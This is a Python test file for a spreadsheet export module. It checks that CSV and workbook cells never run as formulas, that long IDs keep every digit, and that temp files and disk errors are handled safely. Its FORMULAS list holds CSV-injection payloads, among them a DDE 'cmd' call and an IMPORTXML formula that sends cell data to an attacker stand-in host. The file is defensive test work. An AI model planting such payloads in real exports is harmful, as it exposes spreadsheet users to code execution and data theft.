"""Whatever stands in a cell, no spreadsheet computes it, and IDs keep every digit; as CSV and as a workbook."""

import csv
import io
import os
import resource
import stat
import tempfile
import unicodedata
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from lookups.lists.exports import CannotExport, TooManyRows, as_csv, as_xlsx
from lookups.lists.exports.cells import safe, storable, utc_text
from tests.fuzzing import fuzzed

FORMULAS = [
    '=HYPERLINK("http://evil.example","click")', "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x00=1",
    " =1+1", "\u00a0=1", " \t -1", "\u200b@SUM(A1)", "\ufeff=1", "\x1f=1", "\u2003＝1", "\u00ad+1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "=cmd|' /C calc'!A0", '=IMPORTXML("http://evil.example/"&A1)', "-491234", "=",
]  # fmt: skip
PLAIN = ["Ana", "", " Ana", "1=1", "10152368852405295", "0012", "7" * 32, "a,b;c", 'say "hi"', "two\nlines", "Zoë 🙂"]
SIGNS, DANGEROUS = tuple("=+-@＝＋－＠"), tuple("\t\r\n\x00")


def is_computed(cell: object) -> bool:
    """Whether some spreadsheet computes a cell: it may drop what can't be seen before a formula."""
    text = str(cell or "")
    unseen = "".join({one for one in text if unicodedata.category(one)[0] in "ZC"})
    return text.startswith(DANGEROUS) or text.lstrip(unseen).startswith(SIGNS)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheet_of(rows):
    with as_xlsx(rows) as file:
        return load_workbook(file).active


def test_every_formula_gets_a_quote_before_it_and_all_else_stays_as_it_is():
    assert [safe(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [safe(text) for text in PLAIN] == PLAIN


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_begins_like_a_formula(text):
    (row,) = read_csv(b"".join(as_csv([[text, "x", text]])))

    assert len(row) == 3
    assert not any(map(is_computed, row))


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_every_cell_of_a_workbook_is_text(text):
    cell = sheet_of([[text]])["A1"]

    assert cell.data_type in ("s", "inlineStr", "n") if text == "" else cell.data_type in ("s", "inlineStr")
    assert cell.number_format == "@"
    assert not is_computed(cell.value)


@fuzzed(200)
@given(st.lists(st.lists(st.text(), min_size=2, max_size=4), max_size=5))
def test_any_text_makes_a_readable_csv_without_formulas(rows):
    read = read_csv(b"".join(as_csv(rows)))

    assert not any(is_computed(cell) for row in read for cell in row)
    assert read == [[safe(storable(cell)) for cell in row] for row in rows]


@fuzzed(40)
@given(st.lists(st.text(st.characters(), max_size=20), min_size=1, max_size=4))
def test_any_text_makes_a_readable_workbook(row):
    cells = next(sheet_of([row]).iter_rows(values_only=True))

    assert not any(map(is_computed, cells))


@fuzzed(200)
@given(st.lists(st.text("0123456789", min_size=1, max_size=32), min_size=1, max_size=20))
def test_ids_come_out_with_every_digit(ids):
    assert read_csv(b"".join(as_csv([ids]))) == [ids]


def test_ids_come_out_of_a_workbook_with_every_digit():
    ids = ["10152368852405295", "00000000000000001", "9" * 32, "1", "0", "9007199254740993"]

    cells = [row[0] for row in sheet_of([[one] for one in ids]).iter_rows(values_only=True)]

    assert cells == ids


def test_a_csv_has_a_byte_order_mark_and_lines_that_end_alike():
    content = b"".join(as_csv([["a", "ü"], ["1", "2"]]))

    assert content == b"\xef\xbb\xbfa,\xc3\xbc\r\n1,2\r\n"


def test_a_csv_is_given_in_blocks_as_the_rows_come():
    taken = []

    def rows():
        for number in range(100_000):
            taken.append(number)
            yield [str(number)] * 3

    stream = as_csv(rows())
    next(stream)
    assert taken == []
    block = next(stream)

    assert 60_000 < len(block) < 80_000
    assert len(taken) < 10_000


def test_a_csv_that_can_t_be_finished_breaks_off():
    def rows():
        yield ["a"]
        raise RuntimeError("the database is gone")

    stream = as_csv(rows())
    assert next(stream) == b"\xef\xbb\xbf"
    with pytest.raises(RuntimeError, match="gone"):
        next(stream)


def test_what_a_sheet_can_t_hold_is_refused_with_the_way_out_and_leaves_no_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    with pytest.raises(TooManyRows, match="CSV"):
        as_xlsx((["1"] for _ in range(12)), most=11)

    assert list(tmp_path.iterdir()) == []
    as_xlsx((["1"] for _ in range(11)), most=11).close()


def test_a_full_disk_is_said_and_leaves_no_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, limits[1]))
    try:
        with pytest.raises(CannotExport, match="disk is full"):
            as_xlsx([str(number)] * 9 for number in range(20_000))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)

    assert list(tmp_path.iterdir()) == []


def test_a_workbook_lies_in_a_file_for_us_only_that_goes_when_it_is_closed(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    file = as_xlsx([["1"]])

    assert stat.S_IMODE(os.fstat(file.fileno()).st_mode) == 0o600
    file.close()
    assert list(tmp_path.iterdir()) == []


def test_a_cell_that_is_too_long_for_a_sheet_says_so_instead_of_losing_digits():
    value = sheet_of([[" ".join(["1234567890"] * 4000)]])["A1"].value

    assert value == "too long for a cell of Excel: download it as CSV"


def test_times_are_utc():
    zone = timezone(timedelta(hours=2))
    assert utc_text(datetime(2026, 5, 3, 1, 30, 5, 99, tzinfo=zone)) == "2026-05-02T23:30:05Z"
    assert utc_text(datetime(2026, 5, 3, tzinfo=UTC)) == "2026-05-03T00:00:00Z"
    assert utc_text(None) == ""
